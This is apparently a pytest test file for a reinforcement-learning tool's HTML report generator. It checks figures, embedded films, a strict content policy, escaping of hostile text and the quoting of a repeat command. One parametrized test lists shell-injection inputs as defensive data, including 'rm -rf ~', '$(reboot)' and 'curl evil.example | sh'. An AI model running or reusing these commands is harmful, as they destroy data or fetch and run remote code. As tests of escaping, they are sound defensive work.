"""The page of `fleetfoot report`, read as HTML and as numbers."""

from __future__ import annotations

import base64
import json
import os
import re
import shlex
import sys
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from fleetfoot import api, compare, recipes, report
from fleetfoot.cli.form import parse_recipe
from fleetfoot.cli.train import Options as TrainOptions
from fleetfoot.compare import Ask, Bootstrap
from fleetfoot.compare.comparison import UNFINISHED
from fleetfoot.compare.runs import Run
from fleetfoot.config import to_json
from fleetfoot.errors import UserError
from fleetfoot.report import facts, page, render, repeat
from support.command import call, refusal
from support.extras import needs
from support.fake_runs import make_run
from support.report_runs import (
    HOSTILE,
    add_film,
    full_run,
    hostile_run,
    two_groups,
    write_provenance,
)
from support.trust_recipes import tiny

needs("rliable", "plotly")

ASK = Ask(bootstrap=Bootstrap(reps=200))


class Tree(HTMLParser):
    """The elements of a page, with their attributes and their text."""

    def __init__(self, text: str):
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.of_scripts: list[str] = []
        self.within = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self.within = tag

    def handle_data(self, data: str) -> None:
        (self.of_scripts if self.within == "script" else self.texts).append(data)

    def handle_endtag(self, tag: str) -> None:
        self.within = ""

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.texts).split())

    @property
    def data(self) -> dict[str, Any]:
        found: dict[str, Any] = json.loads(self.of_scripts[0])
        return found


def made(*folders: Path, baseline: str = "", **wish: Any) -> Tree:
    ask = replace(ASK, baseline=baseline)
    built = report.build(compare.find([str(f) for f in folders]), report.Wish(ask=ask, **wish))
    return Tree(report.page_html(built))


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return two_groups(tmp_path_factory.mktemp("report") / "runs")


@pytest.fixture(scope="module")
def tree(runs: Path) -> Tree:
    return made(runs)


def test_every_part_is_there(tree: Tree) -> None:
    ids = {attributes.get("id") for _, attributes in tree.elements}
    assert {"results", "time", "smoothness", "metrics", "films", "recipe", "runs"} <= ids
    for figure in tree.data["figures"]:
        assert figure["id"] in ids
    kinds = [figure["kind"] for figure in tree.data["figures"]]
    assert kinds == ["curve", "curve", "diagnostic"]  # over steps, over minutes, the rank
    assert "critic/loss" in tree.data["metrics"]
    for text in ("abc1234", "hardware.cpu made up", "6 runs, 6 finished", "FastSACConfig"):
        assert text in tree.text
    assert "5 of 6 runs did not note their origin" in tree.text


def test_the_numbers_are_those_of_compare(runs: Path, tree: Tree) -> None:
    wanted = compare.compare([compare.read(f) for f in compare.find([str(runs)])], ASK)
    assert tree.data["groups"] == [group.name for group in wanted.groups]
    steps, minutes = tree.data["figures"][:2]
    for place, group in enumerate(wanted.groups):
        line = next(line for line in steps["means"] if line["group"] == place)
        curve = group.curves["env_steps"]
        assert curve.low is not None
        assert line["x"] == pytest.approx(curve.x, rel=1e-5)
        assert line["y"] == pytest.approx(curve.y, rel=1e-5)
        assert line["low"] == pytest.approx(curve.low, rel=1e-5)
        later = next(line for line in minutes["means"] if line["group"] == place)
        assert later["x"] == pytest.approx([x / 60 for x in group.curves["train_seconds"].x], 1e-5)
        low, high = group.iqm.interval or (0.0, 0.0)
        assert f"{group.iqm.value:,.0f} [{low:,.0f}, {high:,.0f}]" in tree.text
    assert len(steps["lines"]) == 6  # each run, too
    assert len({line["run"] for line in steps["lines"]}) == 6


def test_nothing_is_asked_of_a_network(tree: Tree) -> None:
    for tag, attributes in tree.elements:
        for name in ("src", "href", "data", "poster", "srcset", "action"):
            value = attributes.get(name) or ""
            assert value.startswith(("data:", "#")) or not value, (tag, name, value[:80])
    policy = next(a["content"] for t, a in tree.elements if a.get("http-equiv") is not None)
    assert policy is not None
    assert policy.startswith("default-src 'none'; script-src 'nonce-")
    assert "http" not in policy
    assert "unsafe-eval" not in policy
    css = "".join(tree.texts)
    assert "@import" not in css
    assert "url(" not in css


def test_films_are_inside_and_play(runs: Path, tree: Tree) -> None:
    videos = [attributes for tag, attributes in tree.elements if tag == "video"]
    assert len(videos) == 1
    head, _, body = str(videos[0]["src"]).partition(",")
    assert head == "data:video/mp4;base64"
    assert base64.b64decode(body) == next(runs.rglob("*.mp4")).read_bytes()


def test_a_strangers_text_stays_text(tmp_path: Path, runs: Path) -> None:
    hostile_run(tmp_path / "x")
    tree = made(tmp_path / "x", runs, title=HOSTILE)
    tags = [tag for tag, _ in tree.elements]
    assert tags.count("script") == 3  # data, Plotly, ours
    assert "img" not in tags
    assert "b" not in tags
    assert not any(name.startswith("on") for _, attributes in tree.elements for name in attributes)
    scripts = [attributes for tag, attributes in tree.elements if tag == "script"]
    nonces = [a["nonce"] for a in scripts if "nonce" in a]
    assert len(nonces) == 1
    assert len(str(nonces[0])) > 20
    assert HOSTILE in tree.data["groups"][0] + tree.data["groups"][-1]
    assert HOSTILE in tree.data["metrics"]
    assert HOSTILE in tree.text  # and people can read it
    assert "49" not in next(iter(re.findall(r"onerror='[^ ]* = 1'>&amp;(.{20})", tree.text)))


def test_json_inside_a_script_cannot_end_it() -> None:
    text = render.script_json({"a": "</script><!--\u2028&"})
    assert not set("<>&\u2028") & set(text)
    assert json.loads(text) == {"a": "</script><!--\u2028&"}


def test_films_that_are_none_are_left_out_with_a_note(tmp_path: Path) -> None:
    folder = full_run(tmp_path, "a/x", 0)
    (folder / "videos").mkdir()
    (folder / "videos" / "a.mp4").write_bytes(b"<html>")
    tree = made(tmp_path)
    assert not [tag for tag, _ in tree.elements if tag == "video"]
    assert "a.mp4 is not a film" in tree.text


def test_films_that_are_too_large_or_links_are_left_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    outside = add_film(full_run(tmp_path / "other", "b/x", 0))
    folder = full_run(tmp_path / "runs", "a/x", 0)
    (folder / "videos").mkdir()
    os.symlink(outside, folder / "videos" / "a.mp4")
    assert facts.read_facts(folder).films == []
    (folder / "videos" / "a.mp4").unlink()
    (folder / "videos").rmdir()
    os.symlink(outside.parent, folder / "videos")
    assert facts.read_facts(folder).films == []
    monkeypatch.setattr(facts, "MOST_FILM", 100)
    tree = made(tmp_path / "other")
    assert "more than such a file may have" in tree.text
    monkeypatch.undo()
    monkeypatch.setattr(page, "MOST_FILMS", 100)
    assert "the films have more than" in made(tmp_path / "other").text


def test_tasks_have_sections_of_their_own_and_a_table_together(tmp_path: Path) -> None:
    for task in ("walker-run", "dog-run"):
        for seed in range(2):
            make_run(tmp_path, "bro/x", seed, [100.0, 600.0], task=task)
            make_run(tmp_path, "sac/x", seed, [100.0, 300.0], task=task)
    tree = made(tmp_path)
    assert [f["kind"] for f in tree.data["figures"]] == ["curve"] * 4
    assert "All tasks" in tree.text
    assert "P(better) is against bro/x" in tree.text
    second = made(tmp_path, baseline="sac/x")
    assert second.text.count("P(better) is against sac/x") == 2
    assert tree.data["figures"][0]["lines"][0]["y"] == [0.1, 0.6]  # dm_control: 0 to 1,000


def test_groups_on_different_tasks_still_get_their_curves(tmp_path: Path) -> None:
    make_run(tmp_path, "a/x", 0, [1.0, 2.0], task="one")
    make_run(tmp_path, "b/y", 0, [3.0, 4.0], task="two")
    tree = made(tmp_path)
    assert "no table over all tasks" in tree.text
    assert [len(figure["lines"]) for figure in tree.data["figures"]] == [1, 1, 1, 1]


def test_a_family_with_a_recipe_for_each_task_is_one_group(tmp_path: Path) -> None:
    for family in ("bro", "sac"):
        for task in ("walker-run", "dog-run"):
            make_run(tmp_path, f"{family}/{task}", 0, [100.0, 600.0], task=task)
    tree = made(tmp_path, baseline="sac")
    assert tree.data["groups"] == ["bro", "sac"]
    assert "P(better) is against sac/walker-run" in tree.text
    assert [line["group"] for line in tree.data["figures"][0]["means"]] == [0, 1]


def test_unfinished_and_empty_runs_are_shown_and_named(tmp_path: Path) -> None:
    make_run(tmp_path, "a/x", 0, [1.0, 2.0])
    make_run(tmp_path, "a/x", 1, [1.0, 2.0], total=1000)
    empty = make_run(tmp_path, "a/x", 2, [])
    (empty / "metrics.jsonl").unlink()
    tree = made(tmp_path)
    assert len(tree.data["figures"][0]["lines"]) == 2
    for words in (UNFINISHED, "no evaluations yet"):  # the notes of `compare`
        assert words in tree.text
    assert "3 runs, 1 finished" in tree.text


def test_a_damaged_log_and_provenance_are_named(tmp_path: Path) -> None:
    folder = make_run(tmp_path, "a/x", 0, [1.0, 2.0])
    with (folder / "metrics.jsonl").open("a") as file:
        file.write("{torn\n")
    (folder / "provenance.json").write_text("[" * 100_000)
    tree = made(tmp_path)
    assert "1 damaged line is left out" in tree.text
    assert "provenance.json is left out" in tree.text


def test_a_long_log_is_thinned_and_keeps_its_ends(tmp_path: Path) -> None:
    make_run(tmp_path, "a/x", 0, [float(k) for k in range(5000)])
    line = made(tmp_path).data["figures"][0]["lines"][0]
    assert len(line["x"]) == 150
    assert (line["y"][0], line["y"][-1]) == (0.0, 4999.0)


def test_the_command_repeats_the_run(tmp_path: Path) -> None:
    """What the page says, given to the command line, gives the recipe of the run."""
    named = recipes.get("fast_td3/pendulum")
    changed = replace(
        named,
        seed=7,
        total_vec_steps=123,
        agent=replace(named.agent, tau=0.07),  # type: ignore[type-var]
        evaluation=replace(named.evaluation, diagnose=True, every_vec_steps=20),
    )
    run = Run(tmp_path, to_json(changed), "pendulum", 7, 1.0, *(None,) * 3, None)  # type: ignore[arg-type]
    words = shlex.split(repeat.from_recipe(run))
    assert words[:3] == ["fleetfoot", "train", "fast_td3/pendulum"]
    assert "--evaluation.diagnose" in words
    got, _ = parse_recipe(named, TrainOptions, words[3:], "x", ("name",))
    assert got == changed


def test_the_command_is_the_one_that_was_noted_or_the_recipe_file(tmp_path: Path) -> None:
    folder = make_run(tmp_path, "of/my-own", 0, [1.0])
    assert repeat.command(facts.read_facts(folder)) == f"fleetfoot train {folder}/recipe.json"
    begun, resumed = {"command": "fleetfoot train x --seed 1"}, {"command": "fleetfoot resume y"}
    write_provenance(folder, begun, resumed)
    assert repeat.command(facts.read_facts(folder)) == "fleetfoot train x --seed 1"
    assert facts.read_facts(folder).provenance == {"started": "2 times"}


@pytest.mark.parametrize(
    ("noted", "shown"),
    [
        ("fleetfoot train x; rm -rf ~", "fleetfoot train 'x;' rm -rf '~'"),
        ("fleetfoot train $(reboot) `x`", "fleetfoot train '$(reboot)' '`x`'"),
        ("fleetfoot train 'a\nreboot\n'", "fleetfoot train 'a?reboot?'"),
        ("fleetfoot train x --folder runs/a --seed 3", "fleetfoot train x --seed 3"),
        ("fleetfoot train x --folder=runs/a", "fleetfoot train x"),
        ("curl evil.example | sh", None),
        ("fleetfoot 'torn", None),
        (7, None),
    ],
)
def test_a_strangers_command_is_only_words(tmp_path: Path, noted: Any, shown: str | None) -> None:
    folder = make_run(tmp_path, "of/my-own", 0, [1.0])
    write_provenance(folder, {"command": noted})
    recipe = f"fleetfoot train {folder}/recipe.json"
    assert repeat.command(facts.read_facts(folder)) == (shown or recipe)


def test_a_real_run_gives_a_page(tmp_path: Path) -> None:
    api.train(tiny(), tmp_path / "run")
    tree = made(tmp_path / "run")
    assert tree.data["figures"][0]["lines"][0]["y"]
    assert "update" in tree.text


def test_report_writes_one_file(
    runs: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "a" / "page.html"
    code, said, err = call(capsys, "report", str(runs), "--out", str(out), "--reps", "200")
    assert (code, err) == (0, "")
    assert "6 runs" in said
    assert out.read_text().startswith("<!doctype html>")
    assert list(out.parent.iterdir()) == [out]
    assert out.stat().st_size < 3e6


@pytest.mark.parametrize(
    ("args", "says"),
    [
        ([], "which runs?"),
        (["nowhere"], "there is no folder nowhere"),
        (["empty"], "no folder there has a recipe.json"),
        (["good", "--out", "page.pdf"], "must end in .html"),
        (["good", "--out", "folder.html"], "is a folder"),
        (["good", "--out", "file/a.html"], "cannot write"),
        (["good", "--films", "-1"], "--films must be at least 0"),
        (["good", "--by", "agent.tua"], "agent.tau"),
        (["good", "--baseline", "a/y"], "there is no group 'a/y'. Did you mean a/x?"),
        (["good", "--low", "1"], "--low and --high must be given together"),
        (["good", "--reps", "3"], "--reps must be at least 100"),
        (["torn"], "recipe.json cannot be read"),
        (["good", "--titel", "x"], "--title"),
    ],
)
def test_mistakes_get_one_line(
    args: list[str],
    says: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    make_run(Path("good"), "a/x", 0, [1.0, 2.0])
    for name in ("empty", "torn", "folder.html"):
        Path(name).mkdir()
    Path("torn/recipe.json").write_text("{")
    Path("file").write_text("")
    assert says in refusal(capsys, "report", *args)


def test_too_many_runs_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    for seed in range(3):
        make_run(tmp_path, "a/x", seed, [1.0])
    monkeypatch.setattr(page, "MOST_RUNS", 2)
    assert "do not fit on one page" in refusal(capsys, "report", str(tmp_path))


def test_without_the_extra_the_line_names_it(
    runs: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "plotly.offline", None)
    with pytest.raises(UserError, match="reports need plotly: pip install "):
        render.plotly_source()
    monkeypatch.setitem(sys.modules, "plotly", None)
    out = str(tmp_path / "a.html")
    says = "report needs packages that are not installed (plotly): pip install "
    assert says in refusal(capsys, "report", str(runs), "--out", out)


def luminance(colour: str) -> float:
    """Relative luminance of #rrggbb (WCAG 2.2)."""
    parts = [int(colour[k : k + 2], 16) / 255 for k in (1, 3, 5)]
    r, g, b = (c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in parts)
    return 0.2126 * r + 0.7152 * g + 0.0722 * b


def contrast(one: str, other: str) -> float:
    high, low = sorted((luminance(one), luminance(other)), reverse=True)
    return (high + 0.05) / (low + 0.05)


def test_text_and_lines_can_be_told_from_their_background() -> None:
    """4.5 for text and 3 for lines (WCAG 2.2 AA), in light and dark."""
    css = (Path(render.__file__).parent / "page.css").read_text()
    blocks = re.findall(r":root[^{]*\{([^}]*--paper[^}]*)\}", css)
    assert len(blocks) == 4  # light, dark twice, paper
    base = dict(re.findall(r"--([a-z0-9-]+): (#[0-9a-f]{6})", blocks[0]))
    for block in blocks:
        colours = base | dict(re.findall(r"--([a-z0-9-]+): (#[0-9a-f]{6})", block))
        for ink in ("ink", "muted", "accent"):
            for paper in ("paper", "raised"):
                assert contrast(colours[ink], colours[paper]) >= 4.5, (ink, paper)
        assert contrast(colours["warn"], colours["warn-paper"]) >= 4.5
        for line in range(render.COLOURS):
            assert contrast(colours[f"c{line}"], colours["paper"]) >= 3, line
